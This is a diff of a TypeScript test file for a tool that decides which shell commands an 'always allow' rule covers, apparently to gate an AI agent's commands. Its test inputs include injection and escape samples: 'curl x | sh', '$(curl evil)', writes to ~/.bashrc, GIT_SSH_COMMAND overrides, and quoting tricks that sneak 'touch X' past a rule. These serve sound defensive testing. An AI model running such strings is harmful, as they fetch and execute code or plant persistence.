@@ -1,16 +1,22 @@
 /** Which shell text a command rule can cover, and the rules "always allow" saves. */
 import { describe, expect, test } from "bun:test";
-import { covers, leadingWords, offerFor } from "../../src/rules/match.ts";
+import type { ApprovalSubject } from "../../src/approval/types.ts";
+import { covers, describeRule, leadingWords, offerFor } from "../../src/rules/match.ts";
 import { parseCommand } from "../../src/rules/shell-command.ts";
-import type { Rule } from "../../src/rules/types.ts";
+import * as v from "valibot";
+import { Rule } from "../../src/rules/types.ts";
 
 const rules = (...commands: string[]): Rule[] =>
-  commands.map((words) => ({ type: "command", words: words.split(" ") }));
-const command = (text: string) => ({ type: "command" as const, command: text });
+  commands.map((words) => ({ type: "command", words: words.split(" "), where: "outside_sandbox" }));
+const command = (text: string): ApprovalSubject => ({
+  type: "command",
+  command: text,
+  where: "outside_sandbox",
+});
 
 describe("parseCommand", () => {
-  test("splits on operators and removes quotes", () => {
-    expect(parseCommand(`npm test && git commit -m "a b" ; ls 'x y' | tail -n 2`)).toEqual({
+  test("splits on operators and removes quotes", async () => {
+    expect(await parseCommand(`npm test && git commit -m "a b" ; ls 'x y' | tail -n 2`)).toEqual({
       ok: true,
       commands: [
         ["npm", "test"],
@@ -21,68 +27,111 @@ describe("parseCommand", () => {
     });
   });
 
-  test("output joined or discarded is not a redirection to a file", () => {
-    expect(parseCommand("npm test 2>&1 | tail")).toEqual({
+  test("reads escaped and quoted operators as the words bash sees", async () => {
+    expect(await parseCommand("git status \\| 'a'\\''b' \"c\\\"d\" e\\ f x#y")).toEqual({
+      ok: true,
+      commands: [["git", "status", "|", "a'b", 'c"d', "e f", "x#y"]],
+    });
+  });
+
+  test("output joined or discarded is not a redirection to a file", async () => {
+    expect(await parseCommand("npm test 2>&1 | tail")).toEqual({
       ok: true,
       commands: [["npm", "test"], ["tail"]],
     });
-    expect(parseCommand("make >/dev/null 2>&1")).toEqual({ ok: true, commands: [["make"]] });
+    expect(await parseCommand("make >/dev/null 2>&1")).toEqual({ ok: true, commands: [["make"]] });
   });
 
-  const refused: [string, string][] = [
-    ["npm test $(curl x)", "a command substitution"],
-    ["npm test `curl x`", "a command substitution"],
-    ['echo "$(id)"', "a command substitution"],
-    ["cat <(curl x)", "a process substitution"],
-    ["npm test > out.log", "a redirection"],
-    ["npm test >> ~/.bashrc", "a redirection"],
-    ["sh < script", "a redirection"],
-    ["(cd / && rm -rf x)", "a subshell"],
-    ["GIT_SSH_COMMAND=evil git fetch", "a variable assignment before a command"],
-    ["$CMD status", "a command name that expands"],
-    ["git status $(whoami)", "a command substitution"],
-    ["git log $HOME", "a variable expansion"],
-    ["echo 'unclosed", "an unclosed quote"],
-    ["", "no command"],
-    ["; ls", "an operator starts the text"],
-  ];
-  for (const [text, reason] of refused) {
-    test(`refuses ${JSON.stringify(text)}: ${reason}`, () => {
-      expect(parseCommand(text)).toEqual({ ok: false, reason });
-    });
-  }
+  test("the escapes of a `git status` rule are refused, each for what bash does with it", async () => {
+    const readings = await Promise.all(
+      [
+        "git status '>'&touch X",
+        "git status \\>&touch X",
+        "git status #'\ntouch X\n#'",
+        "git status # note \\\ntouch X",
+      ].map(parseCommand),
+    );
+    expect(readings).toEqual([
+      { ok: false, reason: "background" },
+      { ok: false, reason: "background" },
+      { ok: false, reason: "comment" },
+      { ok: false, reason: "comment" },
+    ]);
+  });
 });
 
 describe("covers", () => {
-  test("a rule covers a simple command that starts with its words", () => {
-    expect(covers(rules("git status"), command("git status"))).toBe(true);
-    expect(covers(rules("git status"), command("git status --short"))).toBe(true);
-    expect(covers(rules("git status"), command("git stash"))).toBe(false);
-    expect(covers(rules("npm run lint"), command("npm run test"))).toBe(false);
+  test("a rule covers a simple command that starts with its words", async () => {
+    expect(
+      await Promise.all([
+        covers(rules("git status"), command("git status")),
+        covers(rules("git status"), command("git status --short")),
+        covers(rules("git status"), command("git stash")),
+        covers(rules("npm run lint"), command("npm run test")),
+      ]),
+    ).toEqual([true, true, false, false]);
   });
 
-  test("every part of a compound command must be covered", () => {
-    expect(covers(rules("git status"), command("git status; curl x | sh"))).toBe(false);
-    expect(covers(rules("git status"), command("git status && touch x"))).toBe(false);
-    expect(covers(rules("npm test", "tail"), command("npm test 2>&1 | tail -n 20"))).toBe(true);
+  test("every part of a compound command must be covered", async () => {
+    expect(
+      await Promise.all([
+        covers(rules("git status"), command("git status; curl x | sh")),
+        covers(rules("git status"), command("git status && touch x")),
+        covers(rules("npm test", "tail"), command("npm test 2>&1 | tail -n 20")),
+      ]),
+    ).toEqual([false, false, true]);
   });
 
-  test("text the parser refuses is never covered", () => {
-    expect(covers(rules("npm test"), command("npm test $(curl evil)"))).toBe(false);
-    expect(covers(rules("npm test"), command("npm test > ~/.profile"))).toBe(false);
+  test("text bash's grammar does not read as plain commands is never covered", async () => {
+    expect(
+      await Promise.all([
+        covers(rules("npm test"), command("npm test $(curl evil)")),
+        covers(rules("npm test"), command("npm test > ~/.profile")),
+        covers(rules("git status"), command("git status '>'&touch X")),
+        covers(rules("git status"), command("git status # note \\\ntouch X")),
+      ]),
+    ).toEqual([false, false, false, false]);
   });
 
-  test("a write rule covers files under its directory only", () => {
+  test("a rule saved before rules named their place is read as outside the sandbox", async () => {
+    const old = v.parse(Rule, { type: "command", words: ["git", "status"] });
+    expect(old).toEqual({ type: "command", words: ["git", "status"], where: "outside_sandbox" });
+    expect(await covers([old], command("git status"))).toBe(true);
+  });
+
+  test("a write rule covers files under its directory only", async () => {
     const dir: Rule[] = [{ type: "write_dir", dir: "/home/u/notes" }];
-    expect(covers(dir, { type: "write", path: "/home/u/notes/a/b.md" })).toBe(true);
-    expect(covers(dir, { type: "write", path: "/home/u/notes-evil/b.md" })).toBe(false);
-    expect(covers(dir, { type: "write", path: "/home/u/.bashrc" })).toBe(false);
+    expect(
+      await Promise.all([
+        covers(dir, { type: "write", path: "/home/u/notes/a/b.md" }),
+        covers(dir, { type: "write", path: "/home/u/notes-evil/b.md" }),
+        covers(dir, { type: "write", path: "/home/u/.bashrc" }),
+      ]),
+    ).toEqual([true, false, false]);
   });
 
-  test("an MCP rule covers one tool", () => {
-    const tool: Rule[] = [{ type: "mcp_tool", tool: "mcp__gh__search" }];
-    expect(covers(tool, { type: "mcp_tool", tool: "mcp__gh__search" })).toBe(true);
-    expect(covers(tool, { type: "mcp_tool", tool: "mcp__gh__delete" })).toBe(false);
+  test("an MCP rule covers one tool of one server, never another server's tool of the same flat name", async () => {
+    const tool: Rule[] = [{ type: "mcp_tool", server: "a", tool: "b__c" }];
+    expect(
+      await Promise.all([
+        covers(tool, { type: "mcp_tool", server: "a", tool: "b__c" }),
+        covers(tool, { type: "mcp_tool", server: "a__b", tool: "c" }),
+        covers(tool, { type: "mcp_tool", server: "a", tool: "b" }),
+      ]),
+    ).toEqual([true, false, false]);
+  });
+
+  test("an MCP rule saved with only the flattened name covers nothing", async () => {
+    const old: Rule[] = [{ type: "mcp_tool", tool: "mcp__a__b__c" }];
+    expect(
+      await Promise.all([
+        covers(old, { type: "mcp_tool", server: "a", tool: "b__c" }),
+        covers(old, { type: "mcp_tool", server: "a__b", tool: "c" }),
+      ]),
+    ).toEqual([false, false]);
+    expect(describeRule(old[0])).toBe(
+      "call mcp__a__b__c (saved by an older dsh without its server: it covers nothing)",
+    );
   });
 });
 
@@ -94,18 +143,38 @@ describe("offers", () => {
     expect(leadingWords(["rm", "-rf", "build"])).toEqual(["rm", "-rf", "build"]);
   });
 
-  test("the label states the rule and its project", () => {
-    expect(offerFor("/home/u/src/app", command("npm test 2>&1 | tail"), "/home/u")).toEqual({
+  test("the label states the rules, that they run outside the sandbox, and the project", async () => {
+    expect(await offerFor("/home/u/src/app", command("npm test 2>&1 | tail"), "/home/u")).toEqual({
       project: "/home/u/src/app",
       rules: rules("npm test", "tail"),
-      label: "Always allow `npm test`, `tail` in ~/src/app",
+      label: "Always allow `npm test`, `tail` outside the sandbox in ~/src/app",
     });
-    expect(offerFor("/p", { type: "write", path: "/home/u/notes/a.md" }, "/home/u")?.label).toBe(
-      "Always allow writes in ~/notes for /p",
-    );
+    expect(
+      (await offerFor("/p", { type: "write", path: "/home/u/notes/a.md" }, "/home/u"))?.label,
+    ).toBe("Always allow writes in ~/notes for /p");
   });
 
-  test("no rule is offered for text the parser refuses", () => {
-    expect(offerFor("/p", command("curl x | sh $(id)"), "/home/u")).toBeUndefined();
+  test("an MCP offer names the server and the tool", async () => {
+    expect(
+      await offerFor("/p", { type: "mcp_tool", server: "a__b", tool: "c" }, "/home/u"),
+    ).toEqual({
+      project: "/p",
+      rules: [{ type: "mcp_tool", server: "a__b", tool: "c" }],
+      label: "Always allow `c` of the MCP server `a__b` in /p",
+    });
+  });
+
+  test("no rule is offered for text bash's grammar does not read as plain commands", async () => {
+    expect(
+      await Promise.all([
+        offerFor("/p", command("curl x | sh $(id)"), "/home/u"),
+        offerFor("/p", command("git status '>'&touch X"), "/home/u"),
+        offerFor("/p", command("git status #'\ntouch X\n#'"), "/home/u"),
+      ]),
+    ).toEqual([undefined, undefined, undefined]);
+  });
+
+  test("dsh rules says where a command rule lets its command run", () => {
+    expect(describeRule(rules("git fetch")[0])).toBe("run `git fetch` outside the sandbox");
   });
 });
